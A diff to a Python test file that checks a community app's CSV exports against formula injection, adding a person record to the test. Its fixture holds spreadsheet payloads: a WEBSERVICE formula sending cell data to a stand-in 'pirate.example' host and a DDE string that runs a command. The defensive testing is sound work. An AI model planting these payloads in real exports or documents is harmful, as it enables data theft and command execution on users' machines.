@@ -22,6 +22,9 @@ HOSTILE = {
     "question": '=WEBSERVICE("http://pirate.example/"&A1)',
     "option": '+HYPERLINK("http://pirate.example")',
     "other_option": "-1",
+    "name": "=cmd|' /C calc'!A0",
+    "building": "@Bâtiment B",
+    "languages": "+wolof",
 }
 
 
@@ -46,7 +49,7 @@ def test_a_cell_that_would_start_a_formula_is_written_as_text(value, cell):
 
 
 def hostile_records(app, world, clock) -> None:
-    """A need and a settled majority judgment whose every exported text is hostile."""
+    """A need, a settled majority judgment and a person whose every exported text is hostile."""
     from assembly.auth.models import User
     from assembly.decisions.models import Grade, Method
     from assembly.decisions.operations.core import close_due
@@ -88,6 +91,17 @@ def hostile_records(app, world, clock) -> None:
         cast_ballot(decision, user_id=admin.id, grades={first.id: Grade.VERY_GOOD, second.id: 0})
         clock.advance(days=2)
         close_due()
+        from assembly.people.models import Person
+
+        db.session.add(
+            Person(
+                group_id=group.id,
+                name=HOSTILE["name"],
+                building=HOSTILE["building"],
+                languages=HOSTILE["languages"],
+            )
+        )
+        db.session.commit()
 
 
 def csv_routes(app, client, args) -> dict[str, str]:
@@ -109,7 +123,7 @@ def test_no_csv_cell_starts_a_formula_whatever_residents_typed(app, world, clien
 
     exports = csv_routes(app, client, world.args)
 
-    assert {"needs.export_csv", "decisions.export_csv"} <= set(exports)
+    assert {"needs.export_csv", "decisions.export_csv", "people.export_csv"} <= set(exports)
     cells = {}
     for endpoint, text in exports.items():
         rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";")
@@ -120,6 +134,7 @@ def test_no_csv_cell_starts_a_formula_whatever_residents_typed(app, world, clien
     expected = {
         "needs.export_csv": ("title", "body", "place", "theme", "author_name", "contact"),
         "decisions.export_csv": ("question", "option"),
+        "people.export_csv": ("name", "building", "languages"),
     }
     for endpoint, fields in expected.items():
         for field in fields:
